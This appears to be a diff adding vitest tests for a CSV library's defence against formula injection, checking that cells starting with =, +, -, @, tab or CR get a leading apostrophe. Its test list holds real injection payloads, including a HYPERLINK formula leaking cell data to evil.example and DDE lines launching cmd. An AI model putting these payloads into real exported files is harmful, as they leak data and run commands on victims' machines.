@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { CsvReader, csvField, parseCsv, writeCsv } from './csv';
+import { CsvReader, csvField, neutraliseCell, parseCsv, writeCsv } from './csv';
 
 const fields = (text: string) => parseCsv(text).map((r) => r.fields);
 
@@ -149,5 +149,42 @@ describe('writeCsv', () => {
     const text = writeCsv(rows);
     expect(text.endsWith('\r\n')).toBe(true);
     expect(fields(text)).toEqual(rows);
+  });
+});
+
+describe('CSV injection (formula cells)', () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    '=1+1',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '-2+3',
+    "-cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+  ];
+
+  it('gives every cell that starts with =, +, -, @, a tab or a CR a leading apostrophe', () => {
+    for (const cell of HOSTILE) {
+      expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
+      // Written and read back: the apostrophe is the cell's first character, whatever quoting it needed.
+      expect(fields(writeCsv([[cell]]))[0][0], JSON.stringify(cell)).toBe(`'${cell}`);
+    }
+    expect(writeCsv([['=1+1', '@SUM(A1)']])).toBe("'=1+1,'@SUM(A1)\r\n");
+    expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
+  });
+
+  it('leaves plain negative numbers as numbers, and everything else alone', () => {
+    for (const n of ['-0.5', '-12', '-3e-4', '-1.', '-.25', '-7E+2']) expect(neutraliseCell(n), n).toBe(n);
+    for (const n of ['-0.5x', '-', '--1', '-1-1', '- 1', '-Infinity', '-1;2'])
+      expect(neutraliseCell(n), n).toBe(`'${n}`);
+    for (const plain of ['plain', '0.5', '12', '', 'a=b', "'already"])
+      expect(neutraliseCell(plain), plain).toBe(plain);
+  });
+
+  it('writes every cell exactly as it is when asked for raw CSV', () => {
+    const rows = [HOSTILE, ['-0.5', 'plain']];
+    expect(fields(writeCsv(rows, { raw: true }))).toEqual(rows);
+    expect(csvField('=1+1', { raw: true })).toBe('=1+1');
   });
 });
